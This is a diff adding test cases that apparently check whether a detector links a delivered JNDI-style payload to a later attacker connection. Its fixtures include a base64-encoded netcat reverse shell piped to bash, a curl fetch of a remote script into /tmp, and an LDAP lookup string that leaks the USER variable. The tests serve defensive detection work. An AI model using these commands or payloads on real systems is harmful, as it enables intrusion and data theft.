@@ -322,6 +322,54 @@ def old_answer(tale, twin):
     tale.refused()
 
 
+def delivered(tale, words):
+    tale.lookup(NAME)
+    tale.search(codebase="http://%s:8888/" % EVIL)
+    tale.fetch(words=words)
+
+
+DELIVERED, COMPROMISED = [(VICTIM, "delivered")], [(VICTIM, "compromised")]
+
+
+@row("a number like an address in a class, and nobody calls there", DELIVERED, COMPROMISED)
+def version_number(tale, twin):
+    delivered(tale, ["1.2.3.4"])
+    tale.hello(server="1.2.3.4" if twin else "1.2.3.5", port=9001)
+
+
+@row("another port than the class has beside the host", DELIVERED, COMPROMISED)
+def pair_in_class(tale, twin):
+    delivered(tale, ["203.0.113.77:9001"])
+    tale.hello(server="203.0.113.77", port=9001 if twin else 9002)
+
+
+@row("another host than the one whose name the class has", DELIVERED, COMPROMISED)
+def name_in_class(tale, twin):
+    delivered(tale, ["java.net.Socket", "second.example"])
+    tale.asks("second.example" if twin else "third.example", answer="203.0.113.77")
+    tale.hello(server="203.0.113.77", port=9001)
+
+
+@row("a pair of a name and a port, resolved only then", DELIVERED, COMPROMISED)
+def named_pair(tale, twin):
+    delivered(tale, ["second.example:9001"])
+    tale.asks("second.example", answer="203.0.113.77" if twin else "203.0.113.78")
+    tale.hello(server="203.0.113.77", port=9001)
+
+
+@row("another place than the command in base64 calls", DELIVERED, COMPROMISED)
+def packed_command(tale, twin):
+    line = base64.b64encode(b"nc 203.0.113.77 9001 -e sh").decode()
+    delivered(tale, ["bash -c {echo,%s}|{base64,-d}|{bash,-i}" % line])
+    tale.hello(server="203.0.113.77", port=9001 if twin else 9002)
+
+
+@row("another host than the one that is fetched without a scheme", DELIVERED, COMPROMISED)
+def bare_fetch(tale, twin):
+    delivered(tale, ["curl -s 203.0.113.77/x.sh -o /tmp/x"])
+    tale.browse(VICTIM, "203.0.113.77" if twin else "203.0.113.78", 80)
+
+
 PAYLOAD = "ldap://${env:USER}.evil.example:1389/a"
 
 
